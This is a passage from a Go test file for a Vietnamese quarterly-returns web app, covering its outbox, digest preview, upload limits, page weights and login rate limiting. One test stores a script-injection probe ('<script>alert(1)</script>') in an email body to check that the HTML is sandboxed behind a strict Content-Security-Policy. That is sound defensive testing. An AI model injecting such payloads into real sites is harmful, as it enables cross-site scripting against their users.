		'văn bản', '<p>html</p><script>alert(1)</script>', 'failed', 5, now(), '550 mailbox unavailable', now()) RETURNING id`))
	b.exec(t, `INSERT INTO returns.digest_sent (email, year, quarter, scope_org_code, outbox_id, message_id, cutoff, queued_at)
		VALUES ('quanly@example.vn', 2025, 3, 'T', $1, '<a@b>', now(), now())`, id)
	c := b.client(t)
	_, body := c.get("/outbox?status=failed")
	require.Contains(t, body, "550 mailbox unavailable")
	require.Contains(t, body, "Tổng hợp quý III/2025")
	_, body = c.get("/digests")
	require.Contains(t, body, "quanly@example.vn")
	require.Contains(t, body, fmt.Sprintf(`href="/outbox/%d"`, id))
	_, body = c.get(fmt.Sprintf("/outbox/%d", id))
	require.Contains(t, body, `<iframe class="mail" sandbox src=`)
	resp, err := c.c.Get(fmt.Sprintf("%s/outbox/%d/html", b.srv.URL, id))
	require.NoError(t, err)
	resp.Body.Close()
	require.Contains(t, resp.Header.Get("Content-Security-Policy"), "sandbox")
	require.Contains(t, resp.Header.Get("Content-Security-Policy"), "default-src 'none'")
}

// TestEnglishAndLimits: ?lang=en switches the pages to English and stays;
// an upload over the size limit is refused in words, nothing written.
func TestEnglishAndLimits(t *testing.T) {
	t.Parallel()
	b := setup(t, "", func(c *web.Config) { c.MaxUploadMB = 1 })
	storetest.Canaries(t, b.st)
	c := b.client(t)
	_, body := c.get("/?lang=en&q=2025-Q3")
	require.Contains(t, body, "Quarter board")
	require.Contains(t, body, "Q3 2025")
	_, body = c.get("/files")
	require.Contains(t, body, "Files received", "the language is remembered")
	_, form := c.get("/upload")
	resp := c.upload(t, csrfOf(t, form), "big.xlsx", bytes.Repeat([]byte("x"), 3<<20))
	require.Equal(t, http.StatusRequestEntityTooLarge, resp.StatusCode)
	entries, _ := os.ReadDir(filepath.Join(b.state, "inbox"))
	require.Empty(t, entries)
}

// TestPageWeights: every page of the canary province stays light (the
// board of a 1,500-organisation province is measured by
// BenchmarkBoardProvince).
func TestPageWeights(t *testing.T) {
	t.Parallel()
	b := setup(t, "")
	storetest.Canaries(t, b.st)
	var sub int64
	require.NoError(t, b.st.DB().Get(&sub, `SELECT id FROM returns.submission WHERE org_code = 'T-D1-3'`))
	c := b.client(t)
	for _, p := range []string{"/signin", "/?q=2025-Q3", "/files", "/orgs/T-D1-3", fmt.Sprintf("/submissions/%d/rows/KetNap", sub), "/upload", "/static/style.css"} {
		code, body := c.get(p)
		require.Equal(t, http.StatusOK, code, p)
		t.Logf("%-32s %6d bytes", p, len(body))
		require.Less(t, len(body), 32<<10, p)
	}
}

// TestDigestPreview: the administrator sees a recipient's digest as the
// digest job would mail it, its chart inlined, without queueing anything.
func TestDigestPreview(t *testing.T) {
	t.Parallel()
	b := setup(t, "")
	storetest.Canaries(t, b.st)
	_, err := b.st.ImportRecipients(context.Background(), store.RecipientsMeta{SHA256: strings.Repeat("a", 64), FileName: "r.xlsx"},
		[]store.Recipient{{Email: "huyen1@example.vn", Name: "Huyện 1", ScopeOrgCode: "T-D1", Language: "vi", Active: true, SourceRow: 2}})
	require.NoError(t, err)
	c := b.client(t)
	code, body := c.get("/digests/preview?q=2025-Q3&email=huyen1@example.vn")
	require.Equal(t, http.StatusOK, code)
	require.Contains(t, body, `id="subject"`)
	require.Contains(t, body, "Quý III/2025")
	code, body = c.get("/digests/preview/html?q=2025-Q3&email=huyen1@example.vn")
	require.Equal(t, http.StatusOK, code)
	require.Contains(t, body, "data:image/png;base64,")
	require.NotContains(t, body, "cid:")
	var n int
	require.NoError(t, b.st.DB().Get(&n, `SELECT count(*) FROM returns.outbox`))
	require.Zero(t, n, "a preview queues nothing")
	code, _ = c.get("/digests/preview?q=2025-Q3&email=nobody@example.vn")
	require.Equal(t, http.StatusOK, code)
}

// TestClientLimit: one address that keeps failing is refused for a while,
// whatever logins it tries, even with a right password.
func TestClientLimit(t *testing.T) {
	t.Parallel()
	b := setup(t, "0.0.0.0:8787", func(c *web.Config) { c.MaxFailedPerClient = 3 })
	b.account(t, "admin", store.RoleAdministrator, "")
	c := b.client(t)
	for i := range 3 {
		_, form := c.get("/signin")
		resp, _ := c.post("/signin", url.Values{"csrf": {csrfOf(t, form)}, "login": {fmt.Sprintf("nobody%d", i)}, "password": {"x"}})
		require.Equal(t, http.StatusUnauthorized, resp.StatusCode)
	}
	_, form := c.get("/signin")
	resp, body := c.post("/signin", url.Values{"csrf": {csrfOf(t, form)}, "login": {"admin"}, "password": {password}})
	require.Equal(t, http.StatusTooManyRequests, resp.StatusCode)
	require.Contains(t, body, "15 phút")
}

// TestBoardOpensLikeStatus: with no quarter asked for, the board opens on the
// quarter `returns status` opens on (registry.BoardQuarter: the one being
// collected, else the latest with returns) and says why; it opened on an
// empty quarter long after the samples' one.
func TestBoardOpensLikeStatus(t *testing.T) {
	t.Parallel()
	ict, err := time.LoadLocation("Asia/Ho_Chi_Minh")
	require.NoError(t, err)
	now := time.Date(2026, 12, 2, 9, 0, 0, 0, ict)
	b := setup(t, "127.0.0.1:8787", func(c *web.Config) { c.Now = func() time.Time { return now }; c.Zone = ict })
	storetest.Canaries(t, b.st)
	b.exec(t, `INSERT INTO returns.file_event (sha256, file_name, org_code, year, quarter, outcome, reason, received_at, decided_at)
		VALUES ('a1', 'x.xlsx', 'T-D3-1', 2025, 3, 'rejected', 'INVALID_DATA', '2025-10-02', '2025-10-02')`)
	code, body := b.client(t).get("/")
	require.Equal(t, http.StatusOK, code)
	require.Contains(t, body, `id="deadline">10/10/2025<`, "opens on 2025-Q3, the latest quarter with returns")
	require.Contains(t, body, "quý gần nhất có báo cáo")
	code, body = b.client(t).get("/?q=2026-Q3")
	require.Equal(t, http.StatusOK, code)
	require.Contains(t, body, `id="deadline">10/10/2026<`)
	require.NotContains(t, body, `id="why"`, "a quarter asked for needs no reason")
}
